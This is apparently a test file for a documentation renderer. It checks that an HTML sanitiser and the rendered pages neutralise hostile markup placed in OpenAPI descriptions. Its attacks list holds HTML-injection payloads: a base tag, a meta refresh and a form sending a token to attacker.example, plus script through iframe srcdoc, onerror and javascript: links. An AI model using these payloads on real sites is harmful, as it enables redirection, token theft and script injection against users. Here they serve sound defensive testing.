import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect, it } from 'vitest'
import { renderPages } from '../../scripts/docs/render.js'
import { withoutHtml } from '../../scripts/docs/without-html.js'
import { chromiumPath, desktop, launch, openPages } from '../support/browser.js'
import { document } from '../support/document.js'
import { toolsAreRequired } from '../support/tools.js'

/** What a description would do to the page, each by itself. */
const attacks = [
  '<base href="https://attacker.example/">',
  '<form action="https://attacker.example/"><input name="token"></form>',
  '<iframe srcdoc="<script>parent.document.title = \'taken\'</script>"></iframe>',
  '<meta http-equiv="refresh" content="0; url=https://attacker.example/">',
  '<img src="x" onerror="document.title = \'taken\'">',
  '<a href="javascript:document.title = \'taken\'">x</a>',
  "[x](javascript:document.title='taken')",
]

it.each(attacks)('a description loses what a page would carry out: %s', (attack) => {
  for (const text of [
    attack,
    `Text ${attack} text`,
    `- a list\n- ${attack}\n`,
    `| a |\n|-|\n| ${attack} |`,
  ])
    expect(withoutHtml(text)).not.toMatch(
      /<(?:base|form|input|iframe|meta|img|a)\b|\]\(javascript/i,
    )
})

it('a description keeps code, and what shapes a text', () => {
  const text =
    'Write `<base>` or:\n\n```html\n<form></form>\n```\n\n<code>create<wbr>Issuer</code> of [a](#b)'
  expect(withoutHtml(text)).toBe(text)
})

it('a description is refused where a tag cannot be taken out', () =>
  expect(() => withoutHtml('- a\n  <iframe\n    srcdoc="x">\n  </iframe>')).toThrow(/holds HTML/))

it('the pages show a hostile document and do nothing that it asks for', async ({ skip }) => {
  skip(chromiumPath === undefined && !toolsAreRequired, 'chromium is not on this machine')
  const folder = await mkdtemp(join(tmpdir(), 'hostile-'))
  const [source, file] = [join(folder, 'openapi.json'), join(folder, 'index.html')]
  const hostile = structuredClone(document) as unknown as {
    info: { description: string }
    paths: Record<string, Record<string, { description: string }>>
  }
  const text = attacks.join('\n\n')
  hostile.info.description += `\n\n${text}`
  for (const item of Object.values(hostile.paths))
    for (const operation of Object.values(item)) operation.description = text
  await writeFile(source, JSON.stringify(hostile))
  await renderPages(file, { file: source })
  const browser = await launch()
  try {
    const { page, errors, requests } = await openPages(browser, file, desktop)
    const found = await page.evaluate(() =>
      [
        ...globalThis.document.querySelectorAll('base, form, iframe, meta[http-equiv], [onerror]'),
      ].map((element) => element.outerHTML.slice(0, 50)),
    )
    expect(found).toEqual(['<meta http-equiv="Content-Security-Policy" content'])
    expect(await page.title()).toBe(document.info.title)
    const policy = await page.getAttribute('meta[http-equiv]', 'content')
    expect(policy).toMatch(/; base-uri 'none'; form-action 'none'$/)
    expect([...errors, ...requests]).toEqual([])
  } finally {
    await browser.close()
    await rm(folder, { recursive: true })
  }
})
